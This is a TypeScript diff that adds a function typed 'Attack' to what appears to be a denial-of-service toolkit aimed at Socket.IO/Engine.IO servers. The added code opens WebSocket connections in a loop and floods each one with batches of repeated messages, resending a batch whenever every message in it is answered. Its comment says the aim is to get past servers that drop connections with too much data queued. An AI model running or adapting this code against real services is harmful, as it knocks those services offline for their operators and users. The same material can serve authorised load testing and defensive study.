@@ -471,3 +471,29 @@ export const leftSessions =
 export const leftWebSockets: Attack = async (target) => {
   while (!target.isOver) await openWebSocket(target, EIO4, ["40"], /"sid":/g, 2)
 }
+
+/**
+ * A WebSocket that sends a message `count` times, and again when all of these are answered: platforms
+ * that read on, and close a connection of which too much waits, are given no more.
+ */
+export const answered =
+  (message: Buffer, count: number): Attack =>
+  async (target) => {
+    const bytes = Buffer.concat(Array.from({ length: count }, () => message))
+    while (!target.isOver) {
+      const socket = await openWebSocket(target, EIO4, ["40"], /"sid":/g, 2)
+      if (socket === undefined) {
+        await sleep(1)
+        continue
+      }
+      let answers = 0
+      socket.on("data", (chunk: Buffer) => {
+        answers += chunk.toString("latin1").match(/431\[/g)?.length ?? 0
+        if (answers < count) return
+        answers = 0
+        if (!target.isOver) socket.write(bytes)
+      })
+      socket.write(bytes)
+      await closed(socket)
+    }
+  }
